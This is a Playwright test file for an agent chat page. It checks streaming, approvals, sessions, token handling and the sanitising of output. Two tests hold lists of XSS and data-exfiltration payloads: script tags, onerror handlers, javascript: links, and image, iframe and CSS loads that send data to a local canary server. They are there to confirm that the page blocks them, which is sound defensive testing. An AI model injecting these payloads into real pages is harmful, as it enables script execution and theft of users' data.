import { afterAll, beforeAll, expect, setDefaultTimeout, test } from "bun:test";
import type { Browser, Page } from "playwright";
import type { TurnEvent } from "../../../src/agent/turn.ts";
import { launchBrowser, say, untilIdle, watchedPage } from "./browser.ts";
import { answer, callTool, type Script, serveTurns } from "./served-turns.ts";

setDefaultTimeout(60_000);

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

/** The page over a scripted turn, opened and ready; fails when the page did what it must not. */
async function withPage(
  script: Script,
  act: (page: Page, server: Awaited<ReturnType<typeof serveTurns>>) => Promise<void>,
) {
  await using server = await serveTurns(script);
  await using watched = await watchedPage(browser, server.url);
  await watched.page.goto("/chat");
  await watched.page.getByLabel("Message", { exact: true }).waitFor();
  await act(watched.page, server);
  expect(watched.faults).toEqual([]);
}

const said = (page: Page) => page.locator(".said");

test("the page opens a tool's card while it runs and folds it when it has ended", async () => {
  const gate = Promise.withResolvers<void>();
  const call = {
    id: "c1",
    name: "search_files",
    args: { pattern: "TODO", path: "src" },
    output: "a.ts:1: TODO",
  };
  async function* script(): AsyncIterable<TurnEvent> {
    yield { type: "status", code: "step", text: "step 3 of at most 25", step: 3, maxSteps: 25 };
    yield* callTool(call, async function* () {
      yield { type: "tool_chunk", callId: "c1", toolName: "search_files", text: "looking into a.ts" };
      await gate.promise;
    });
    yield* answer("Found **one**.");
  }
  await withPage(script, async (page) => {
    await say(page, "find it");
    const card = page.locator("details.tool");
    await card.getByText("looking into a.ts").waitFor();
    expect(await card.getAttribute("open")).not.toBeNull();
    expect(await card.locator("dl").innerText()).toMatch(/pattern\s+TODO\s+path\s+src/);
    await page.getByText("Step 3 of at most 25").waitFor();
    expect(await page.getByRole("button", { name: "Stop" }).isVisible()).toBeTrue();

    gate.resolve();
    await said(page).locator("strong", { hasText: "one" }).waitFor();
    await page.locator("details.tool:not([open])").getByText("done 1.2 s").waitFor();
    await untilIdle(page);
    await card.locator("summary").click();
    await card.getByText("a.ts:1: TODO").waitFor();
  });
});

test("the page loses and doubles nothing of a stream over a broken connection", async () => {
  const text = Array.from({ length: 60 }, (_, index) => `word${index} `).join("");
  const gates = [20, 40].map((index) => ({ index, ...Promise.withResolvers<void>() }));
  const script: Script = () => answer(text, (index) => gates.find((gate) => gate.index === index)?.promise);
  await withPage(script, async (page, server) => {
    await say(page, "count");
    await page.getByText("word19").waitFor();
    server.breakConnections();
    gates[0]?.resolve();
    await page.getByText("word39").waitFor();
    await page.reload();
    await page.getByText("word39").waitFor();
    gates[1]?.resolve();
    await page.getByText("word59").waitFor();
    // While it streams, the space behind the last word is there.
    expect((await said(page).innerText()).trim()).toBe(text.trim());
    expect(await page.locator(".user").allInnerTexts()).toEqual(["count"]);
    expect(server.ran).toEqual(["count"]);
  });
});

test("the page sends what was written without a connection once, when there is one", async () => {
  await withPage(
    (turn) => answer(`You said ${turn.text}.`),
    async (page, server) => {
      // An answer proves that there is a connection to break: the field is there before it.
      await say(page, "hi");
      await page.getByText("You said hi.").waitFor();
      await page.context().setOffline(true);
      server.breakConnections();
      await page.getByText("Connecting to the server").waitFor();
      await say(page, "hello");
      await page.getByText("Sent when connected").waitFor();
      // The tab is closed and opened again meanwhile, as far as that goes without a server.
      await page.context().setOffline(false);
      await page.getByText("You said hello.").waitFor();
      await say(page, "again");
      await page.getByText("You said again.").waitFor();
      expect(server.ran).toEqual(["hi", "hello", "again"]);
      expect(await page.locator(".user").allInnerTexts()).toEqual(["hi", "hello", "again"]);
    },
  );
});

test("the page shows what a model writes as text, not as a page of its own", async () => {
  const hostile = [
    "<img src=x onerror=alert(1)><script>alert(2)</script><style>*{display:none}</style>",
    "[run](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>) [ok](https://example.com/a)",
    "![spy](https://example.com/spy.png) ![dot](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)",
    "<form action=https://example.com><input name=password></form>",
  ].join("\n\n");
  await withPage(
    (turn) => answer(turn.text === "deep" ? ">".repeat(20_000) : `${hostile}\n\nend of it`),
    async (page) => {
      await say(page, "hi");
      await page.getByText("end of it").waitFor();
      const html = said(page).first();
      expect(await html.locator("script, style, form, input, [onerror], [style]").count()).toBe(0);
      expect(
        await html
          .locator("img")
          .evaluateAll((all) => all.map((img) => img.getAttribute("src")?.slice(0, 14))),
      ).toEqual(["data:image/gif"]);
      const links = html.locator("a[href]");
      expect(await links.evaluateAll((all) => all.map((link) => link.getAttribute("href")))).toEqual([
        "https://example.com/a",
        "https://example.com/spy.png",
      ]);
      expect(await links.first().getAttribute("rel")).toBe("noopener noreferrer");
      await say(page, "deep");
      await page.locator(".said").nth(1).getByText(">>>").waitFor();
    },
  );
});

test("the page shows all of what it asks an approval for, though the preview is cut", async () => {
  const argumentsJson = JSON.stringify({ path: "a.txt", content: `${"x".repeat(900)} the end\u202E` });
  const script: Script = async function* (turn, approvals) {
    const call = { callId: "c1", toolName: "write_file" };
    const asked = await approvals.ask(turn, { ...call, argumentsJson, reason: "It changes files." });
    const { id: approvalId, argumentsPreview, reason } = asked;
    yield { type: "approval", approvalId, ...call, argumentsPreview, reason };
    const { state, note } = await approvals.decision(asked, turn.signal);
    yield* answer(`It was ${state}: ${note}.`);
  };
  await withPage(script, async (page) => {
    await say(page, "write");
    const card = page.getByRole("region", { name: "May the agent run write_file?" });
    await card.getByText("the end⟨202e⟩").waitFor();
    expect(await page.title()).toContain("Approval needed");
    await page.reload();
    await card.getByText("the end⟨202e⟩").waitFor();
    await card.getByLabel("Note to the model").fill("use b.txt");
    await card.getByRole("button", { name: "Deny" }).click();
    await page.getByText("It was denied: use b.txt.").waitFor();
    await page.getByText("Denied: write_file").waitFor();
    expect(await card.count()).toBe(0);
    expect(await page.title()).toBe("openclaw");
  });
});

test("the page takes Enter as sending, but not with Shift and not while a word is composed", async () => {
  await withPage(
    (turn) => answer(`Got ${JSON.stringify(turn.text)}.`),
    async (page, server) => {
      const field = page.getByLabel("Message", { exact: true });
      await field.fill("にほん");
      await field.evaluate((box) => {
        const enter = { key: "Enter", bubbles: true, cancelable: true };
        box.dispatchEvent(new KeyboardEvent("keydown", { ...enter, isComposing: true }));
        box.dispatchEvent(new KeyboardEvent("keydown", { ...enter, keyCode: 229 }));
      });
      await page.keyboard.press("Shift+Enter");
      await page.keyboard.type("go");
      await page.keyboard.press("Enter");
      await page.getByText('Got "にほん\\ngo".').waitFor();
      expect(server.ran).toEqual(["にほん\ngo"]);
      expect(await field.inputValue()).toBe("");
    },
  );
});

test("the page takes back a message that is too long and works on", async () => {
  await withPage(
    () => answer("Here I am."),
    async (page) => {
      await say(page, "x".repeat(100_000));
      await page.getByText("The server takes no message of this length.").waitFor();
      await page.getByRole("button", { name: "Discard" }).click();
      await say(page, "hello");
      await page.getByText("Here I am.").waitFor();
      expect(await page.locator(".user").allInnerTexts()).toEqual(["hello"]);
    },
  );
});

test("the page shows a turn that was begun in another window", async () => {
  await withPage(
    (turn) => answer(`You said ${turn.text}.`),
    async (page) => {
      await say(page, "first");
      await page.getByText("You said first.").waitFor();
      await page.reload();
      await page.getByText("You said first.").waitFor();
      const other = await page.context().newPage();
      await other.goto(page.url());
      await other.getByText("You said first.").waitFor();
      await say(other, "second");
      await page.getByText("You said second.").waitFor();
      expect(await page.locator(".user").allInnerTexts()).toEqual(["first", "second"]);
      expect(await said(page).allInnerTexts()).toEqual(["You said first.", "You said second."]);
    },
  );
});

test("the page keeps sessions apart and finds them again in its list", async () => {
  await withPage(
    (turn) => answer(`You said ${turn.text}.`),
    async (page) => {
      await say(page, "apples");
      await page.getByText("You said apples.").waitFor();
      const first = new URL(page.url()).hash;
      await page.getByRole("button", { name: "New session" }).first().click();
      await page.getByText("What should the agent do?").waitFor();
      expect(new URL(page.url()).hash).not.toBe(first);
      await say(page, "pears");
      await page.getByText("You said pears.").waitFor();
      await page.getByRole("navigation").getByRole("button", { name: "apples" }).click();
      await page.getByText("You said apples.").waitFor();
      expect(new URL(page.url()).hash).toBe(first);
      expect(await page.locator(".user").allInnerTexts()).toEqual(["apples"]);
    },
  );
});

test("the page takes a token from its address once, and leaves nothing behind at the end", async () => {
  await using server = await serveTurns(() => answer("Hello."), "a-token-of-the-test");
  await using watched = await watchedPage(browser, server.url);
  const { page, faults } = watched;
  await page.goto("/chat#token=a-token-of-the-test");
  await say(page, "a secret");
  await page.getByText("Hello.").waitFor();
  expect(page.url()).not.toContain("token");
  await page.getByRole("button", { name: "Log out" }).click();
  await page.getByLabel("Access token").waitFor();
  const kept = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }]));
  expect(kept).toBe("[{},{}]");
  expect(new URL(page.url()).hash).toBe("");
  expect(await page.locator("body").innerText()).not.toContain("secret");
  expect(faults).toEqual([]);
});

/** Asks for one call of write_file, and says how it was decided. */
const asks = (pattern?: string): Script =>
  async function* (turn, approvals) {
    const call = { callId: "c1", toolName: "write_file" };
    const about = { argumentsJson: '{"path":"a.txt"}', reason: "It changes files." };
    const asked = await approvals.ask(turn, {
      ...call,
      ...about,
      pattern: JSON.stringify(pattern ?? { a: 1 }),
    });
    const { id: approvalId, argumentsPreview, reason } = asked;
    const said = pattern === undefined ? {} : { pattern };
    yield { type: "approval", approvalId, ...call, argumentsPreview, ...said, reason };
    const { state } = await approvals.decision(asked, turn.signal);
    const [rule] = (await approvals.rules({ limit: 1 })).items;
    yield* answer(`${state}, ${rule === undefined ? "once" : (rule.sessionId ?? "always")}.`);
  };

test.each([
  ["Approve", /approved, once\./],
  ["Allow for this session", /approved, chat-[0-9a-f-]{36}\./],
  ["Always allow", /approved, always\./],
  ["Deny", /denied, once\./],
])("the page's button %s decides so far", async (button, outcome) => {
  await withPage(asks("a\u202E.txt"), async (page) => {
    await say(page, "write");
    await page.getByText("write_file a⟨202e⟩.txt").waitFor();
    await page.getByRole("button", { name: button }).click();
    await page.getByText(outcome).waitFor();
  });
});

test("the page says that exactly these arguments are meant where a tool says no pattern", async () => {
  await withPage(asks(), async (page) => {
    await say(page, "write");
    await page.getByText("hold for exactly these arguments").waitFor();
    await page.getByRole("button", { name: "Deny" }).click();
    await page.getByText("denied, once.").waitFor();
  });
});

test("the page loads nothing from elsewhere, whatever an answer or a tool's output would have it load", async () => {
  const seen: string[] = [];
  await using canary = {
    server: Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch(request) {
        seen.push(new URL(request.url).pathname);
        return new Response("seen");
      },
    }),
    [Symbol.asyncDispose]() {
      return this.server.stop(true);
    },
  };
  const at = `http://127.0.0.1:${canary.server.port}`;
  const attacks = [
    `![picture](${at}/markdown?secret=1)`,
    `![svg](data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${at}/svg"/></svg>`)})`,
    `<img src="${at}/img" srcset="${at}/srcset 2x"><picture><source srcset="${at}/source"></picture>`,
    `<link rel="prefetch" href="${at}/prefetch"><link rel="stylesheet" href="${at}/css"><link rel="preconnect" href="${at}">`,
    `<iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed">`,
    `<video poster="${at}/poster" src="${at}/video"></video><audio src="${at}/audio"></audio>`,
    `<div style="background:url(${at}/style)">x</div><style>@import "${at}/import";</style>`,
    `<script src="${at}/script"></script><meta http-equiv="refresh" content="0;url=${at}/meta">`,
    `<base href="${at}/"><form action="${at}/form"><input type="image" src="${at}/input"></form>`,
    `<svg><image href="${at}/inline"/></svg><math href="${at}/math"></math><table background="${at}/table"></table>`,
    `[link](${at}/link "title") <${at}/autolink> ${at}/plain`,
    `[ref]: ${at}/reference\n![by reference][ref]`,
    "The end of it.",
  ].join("\n\n");
  const script = async function* (): AsyncIterable<TurnEvent> {
    const call = { id: "c1", name: "web_fetch", args: { url: `${at}/args` }, output: attacks };
    yield* callTool(call, async function* () {});
    yield* answer(attacks);
  };
  await withPage(script, async (page, server) => {
    await say(page, "attack");
    await said(page).getByText("The end of it.").waitFor();
    await page.reload();
    await said(page).getByText("The end of it.").waitFor();
    const link = said(page).getByRole("link", { name: "link", exact: true });
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
    await link.hover();
    // What the page was to load would have been asked for before this.
    await page.evaluate(() => fetch("/health/live").then((response) => response.text()));
    expect(seen).toEqual([]);
    const { headers } = await fetch(`${server.url}/chat`);
    expect(headers.get("x-dns-prefetch-control")).toBe("off");
    expect(headers.get("content-security-policy")).toContain("img-src 'self' data:");
  });
  expect(seen).toEqual([]);
  // The canary does sing.
  await fetch(`${at}/heard`);
  expect(seen).toEqual(["/heard"]);
});
